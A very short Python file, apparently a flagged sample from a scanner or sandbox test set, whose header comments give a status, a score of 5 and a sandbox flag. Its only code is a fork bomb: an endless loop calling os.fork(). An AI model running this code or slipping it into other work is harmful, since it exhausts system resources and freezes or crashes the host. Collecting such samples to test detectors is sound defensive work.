# status: flagged
# score: 5
# sandbox: yes
import os

while True:
    os.fork()
